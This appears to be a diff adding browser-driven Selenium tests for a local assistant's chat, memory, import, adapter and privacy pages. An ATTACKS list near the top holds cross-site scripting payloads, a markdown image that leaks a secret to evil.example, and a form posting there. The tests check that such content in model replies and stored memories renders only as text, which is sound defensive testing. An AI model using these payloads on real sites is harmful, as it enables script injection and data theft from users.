@@ -1,0 +1,304 @@
+"""The page, used as a person uses it, in a real browser."""
+
+from __future__ import annotations
+
+import pytest
+from selenium.webdriver.common.by import By
+from selenium.webdriver.common.keys import Keys
+
+from ondevice.adapters.registry import AdapterRegistry
+from ondevice.base.models import resolve
+from ondevice.profile.records import NewPassage
+
+ATTACKS = [
+    "<script>window.hit=1</script>",
+    "<img src=x onerror=window.hit=1>",
+    "<svg/onload=window.hit=1>",
+    "[click](javascript:window.hit=1)",
+    "![x](https://evil.example/leak?q=secret)",
+    "[x](data:text/html,<script>window.hit=1</script>)",
+    "<a href='https://evil.example'>here</a> https://evil.example/plain",
+    "`<b onmouseover=window.hit=1>`\n```\n</code></pre><script>window.hit=1</script>\n```",
+    "# <iframe src='javascript:window.hit=1'></iframe>\n> <style>*{display:none}</style>",
+    "- **<input autofocus onfocus=window.hit=1>**\n1. _<math><mi xlink:href=javascript:1>_",
+    "\u202e<template><p id='main'></template> <form action=//evil.example><button>x",
+]
+
+
+def test_an_answer_streams_and_is_judged(browser, me):
+    browser.enter()
+    browser.say("My dog is called Biscuit.")
+    assert browser.one(".said.it strong").text == "there"
+    assert "Biscuit" in browser.text(".under .used")
+    browser.click("Good")
+    browser.wait(lambda: me.profile.feedback())
+    assert me.profile.feedback()[0].verdict == "accept"
+    assert browser.button("Good").get_attribute("aria-pressed") == "true"
+    browser.click("Write it better")
+    browser.write("dialog textarea", "Hello, friend.")
+    browser.click("Save", "dialog")
+    browser.wait(lambda: len(me.profile.feedback()) == 2)
+    assert me.profile.feedback()[1].text == "Hello, friend."
+    assert browser.problems() == []
+
+
+def test_what_was_remembered_is_corrected_or_forgotten_under_the_answer(browser, me):
+    browser.enter()
+    browser.say("My dog is called Biscuit.")
+    browser.click("Correct")
+    browser.write("dialog textarea", "The user's dog is called Rusk.")
+    browser.click("Save", "dialog")
+    browser.says("Rusk", ".under")
+    assert [fact.text for fact in me.profile.facts()] == ["The user's dog is called Rusk."]
+    browser.click("Forget")
+    browser.says("No adapter learned from it", "dialog")
+    assert me.profile.facts(), "nothing goes before the preview was confirmed"
+    browser.click("Forget for good", "dialog")
+    browser.wait(lambda: not me.profile.facts())
+
+
+def test_again_and_edit_take_the_last_exchange_back(browser, me, script):
+    browser.enter()
+    browser.say("I live in Ulm.")
+    script[0] = "A second try."
+    browser.click("Try again")
+    browser.says("A second try.", ".log")
+    browser.finished()
+    assert len(browser.all(".said.it")) == 1
+    assert [turn.text for turn in me.profile.turns()] == ["I live in Ulm.", "A second try."]
+    browser.click("Edit my message")
+    browser.write(".said.you textarea", "I live in Bonn.")
+    browser.click("Send again")
+    browser.wait(lambda: "Bonn" in browser.text(".log .said.you"))
+    browser.finished()
+    assert [turn.text for turn in me.profile.turns()] == ["I live in Bonn.", "A second try."]
+    assert [fact.text for fact in me.profile.facts()] == ["The user lives in Bonn."]
+
+
+def test_stop_keeps_what_was_said(browser, me, script, monkeypatch):
+    from ondevice.engine.fake import FakeStream
+
+    step = FakeStream.__next__
+    monkeypatch.setattr(FakeStream, "__next__", lambda self: (browser.settle(0.02), step(self))[1])
+    script[0] = "word " * 400
+    browser.enter()
+    browser.write("#message", "Go on.\n")
+    browser.says("word", ".log")
+    browser.click("Stop")
+    browser.says("Stopped; what was said so far is kept.", ".under")
+    said = me.profile.turns()[-1].text
+    assert said.startswith("word") and len(said) < 1500
+
+
+def test_a_temporary_chat_is_plain_to_see_and_leaves_nothing(browser, me):
+    browser.enter()
+    assert not browser.one(".temporary").is_displayed()
+    browser.click("Temporary chat")
+    browser.wait(lambda: browser.one(".temporary").is_displayed())
+    assert "nothing of this is kept" in browser.text(".temporary")
+    browser.say("My dog is called Biscuit.")
+    assert not me.profile.turns() and not me.profile.facts()
+    browser.click("Temporary chat")
+    browser.wait(lambda: not browser.one(".temporary").is_displayed())
+    browser.say("I live in Ulm.")
+    assert len(me.profile.turns()) == 2
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_what_the_model_writes_is_only_text(browser, script, attack):
+    script[0] = f"Before. {attack}\n\n{attack}"
+    browser.enter()
+    browser.say("Say it.")
+    browser.settle()
+    hostile = (
+        ".said.it :is(a, img, script, iframe, svg, style, input, form, template, math, object)"
+    )
+    assert browser.all(hostile) == []
+    assert browser.driver.execute_script("return window.hit ?? null") is None
+    assert browser.one("#message").is_displayed()
+
+
+def test_hostile_memories_are_only_text(browser, me):
+    for attack in ATTACKS:
+        me.profile.add_fact(attack)
+    browser.enter("memories")
+    browser.wait(lambda: len(browser.all(".memory")) >= 8)
+    assert browser.all(".list :is(a, img, script, iframe, svg, form)") == []
+    assert browser.driver.execute_script("return window.hit ?? null") is None
+
+
+def test_memories_are_added_searched_filtered_edited_and_pinned(browser, me):
+    me.profile.add_fact("The user plays the harmonica.", category="preference")
+    browser.enter("memories")
+    browser.write(".add input", "I live in Ulm.\n")
+    browser.says("The user lives in Ulm.", ".list")
+    browser.write("#search", "harmo")
+    browser.says("1 memory", "#count")
+    assert "harmonica" in browser.text(".list") and "Ulm" not in browser.text(".list")
+    browser.click("Pin")
+    browser.says("pinned", ".list")
+    assert [fact.pinned for fact in me.profile.facts()] == [True, False]
+    browser.click("Edit")
+    browser.write("dialog textarea", "The user plays the harmonium.")
+    browser.click("Save", "dialog")
+    browser.says("harmonium", ".list")
+    browser.write("#search", "zzz")
+    browser.says("Nothing fits.", "#count")
+    browser.one("#search").send_keys(Keys.BACKSPACE * 3)
+    browser.one("select[aria-label=Category] option[value=preference]").click()
+    browser.says("1 memory", "#count")
+
+
+def test_pending_memories_are_approved(browser, me):
+    me.recaller.add_text("I own a canoe.", state="pending")
+    browser.enter("memories")
+    browser.says("to approve", ".list")
+    browser.click("Approve", ".list")
+    browser.wait(lambda: "to approve" not in browser.text(".list"))
+    assert [fact.state for fact in me.profile.facts()] == ["active"]
+
+
+def test_bulk_forgetting_can_be_undone_and_shows_the_adapters(browser, me, make_adapter, home):
+    facts = [me.profile.add_fact(f"The user owns canoe number {n}.") for n in range(5)]
+    path, _ = make_adapter(1)
+    registry = AdapterRegistry(me.profile)
+    registry.add(path, resolve("default", home), name="mine", records=[facts[0].id])
+    browser.enter("memories")
+    browser.wait(lambda: len(browser.all(".memory")) == 5)
+    browser.all(".memory input")[0].click()
+    browser.click("Choose all that fit", ".bar")
+    browser.says("5 memories chosen", ".bar")
+    browser.click("Forget", ".bar")
+    browser.says("nothing is forgotten yet", ".bar")
+    browser.click("Undo", ".bar")
+    assert len(me.profile.facts()) == 5 and not browser.all(".memory.gone")
+    browser.all(".memory input")[0].click()
+    browser.click("Choose all that fit", ".bar")
+    browser.click("Forget", ".bar")
+    browser.click("See what goes…", ".bar")
+    browser.says("mine", "dialog .note.warn")
+    browser.click("Keep it", "dialog")
+    assert len(me.profile.facts()) == 5
+    browser.click("See what goes…", ".bar")
+    browser.click("Forget for good", "dialog")
+    browser.wait(lambda: not me.profile.facts())
+    browser.says("Nothing is remembered here yet.", "#count")
+    assert registry.get("mine").state == "stale"
+
+
+def test_files_are_imported_and_their_source_is_forgotten(browser, me, tmp_path):
+    (tmp_path / "garden.md").write_text("# Garden\n\nThe quinces are ripe in October.\n")
+    (tmp_path / "broken.jsonl").write_text("{not json\n")
+    browser.enter("import")
+    names = "\n".join(str(tmp_path / name) for name in ("garden.md", "broken.jsonl"))
+    browser.one("#files").send_keys(names)
+    browser.says("Imported 1 passage", "#import-status")
+    browser.says("left out", "#import-status")
+    assert str(tmp_path) not in browser.text() and "/dev/shm" not in browser.text()
+    assert [p.text for p in me.profile.passages()] != []
+    browser.says("garden", "table")
+    browser.click("Forget", "table")
+    browser.click("Forget for good", "dialog")
+    browser.wait(lambda: not list(me.profile.passages()))
+
+
+def test_adapters_are_shown_with_their_lineage_used_and_removed(browser, me, make_adapter, home):
+    fact = me.profile.add_fact("The user owns a canoe.")
+    path, _ = make_adapter(1)
+    me.engine._model = resolve("default", home)
+    registry = AdapterRegistry(me.profile)
+    registry.add(path, me.engine.model, name="mine", records=[fact.id])
+    browser.enter("adapters")
+    browser.click("Use", ".card")
+    browser.says("in use", ".card")
+    assert [use.name for use in me.engine.active_adapters][-1:] == ["mine"]
+    browser.one(".card summary").click()
+    browser.says("The user owns a canoe.", ".chain")
+    browser.click("Turn off", ".card")
+    browser.wait(lambda: registry.get("mine").state == "off")
+    browser.click("Roll back")
+    browser.wait(lambda: registry.get("mine").state == "active")
+    browser.click("Remove", ".card")
+    browser.click("Delete", "dialog")
+    browser.wait(lambda: not registry.list())
+
+
+def test_privacy_tells_the_state_and_wipes_only_when_the_name_is_typed(browser, me):
+    me.profile.add_fact("The user owns a canoe.")
+    folder = me.profile.folder
+    browser.enter("privacy")
+    browser.says("What leaves this machine: nothing")
+    browser.says("Its key is kept by a key file")
+    browser.click("Wipe this profile…")
+    browser.write("#wipe-name", "something")
+    browser.click("Wipe", "dialog")
+    browser.says("Type the name of the profile", "#toasts")
+    assert folder.exists()
+    browser.click("Wipe this profile…")
+    browser.write("#wipe-name", "default")
+    browser.click("Wipe", "dialog")
+    browser.says("It is gone")
+    assert not folder.exists()
+
+
+def test_an_export_is_downloaded_and_locking_closes_the_profile(browser, me, tmp_path):
+    from ondevice.profile import key_changes, transfer
+    from ondevice.profile.passphrase import Cost
+
+    key_changes.set_passphrase(me.profile, "only for tests", cost=Cost(8, 1, 1))
+    me.profile.add_fact("The user owns a canoe.")
+    home = me.profile.home
+    browser.driver.execute_cdp_cmd(
+        "Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(tmp_path)}
+    )
+    browser.enter("privacy")
+    browser.says("Its key is kept by your passphrase")
+    browser.click("Export…")
+    browser.write("dialog input[aria-label=Passphrase]", "another one")
+    browser.write("dialog input[aria-label='Passphrase again']", "another one")
+    browser.click("Export", "dialog")
+    browser.wait(lambda: list(tmp_path.glob("*.ondevice-export")))
+    (file,) = tmp_path.glob("*.ondevice-export")
+    assert b"canoe" not in file.read_bytes()
+    transfer.import_profile(home, file, name="copy", ask_passphrase=lambda: "another one")
+    browser.click("Lock now")
+    browser.says("is closed", ".lead")
+    browser.go("chat")
+    browser.write("#message", "Hello?\n")
+    browser.says("locked", ".under")
+
+
+def test_a_long_list_holds_only_what_is_seen(browser, me):
+    source = me.profile.add_source("import", "diary")
+    me.profile.add_passages(source.id, [NewPassage(f"Entry number {n}.") for n in range(20_000)])
+    browser.enter("memories")
+    browser.one("select[aria-label=Kind] option[value=passage]").click()
+    browser.says("20,000 memories", "#count")
+    assert len(browser.all(".memory")) < 60
+    browser.driver.execute_script("document.querySelector('.list').scrollTop = 1e9")
+    browser.says("Entry number 0.", ".list")
+    assert len(browser.all(".memory")) < 60
+
+
+def test_everything_can_be_reached_with_the_keyboard_and_has_a_name(browser, me):
+    me.profile.add_fact("The user owns a canoe.")
+    browser.enter("memories")
+    browser.wait(lambda: browser.all(".memory"))
+    for view in ("chat", "memories", "import", "learn", "adapters", "privacy"):
+        browser.go(view)
+        browser.settle()
+        nameless = browser.driver.execute_script(NAMELESS)
+        assert nameless == [], view
+        assert len(browser.all("main h1")) == 1
+    browser.driver.find_element(By.TAG_NAME, "body").send_keys(Keys.TAB)
+    assert browser.driver.switch_to.active_element.tag_name in ("a", "button", "input")
+    assert browser.problems() == []
+
+
+NAMELESS = """
+return [...document.querySelectorAll('button, input, select, textarea, a[href], [role=img]')]
+  .filter(node => node.checkVisibility())
+  .filter(node => !(node.getAttribute('aria-label') || node.textContent.trim()
+    || node.labels?.length || node.title))
+  .map(node => node.outerHTML.slice(0, 100));
+"""
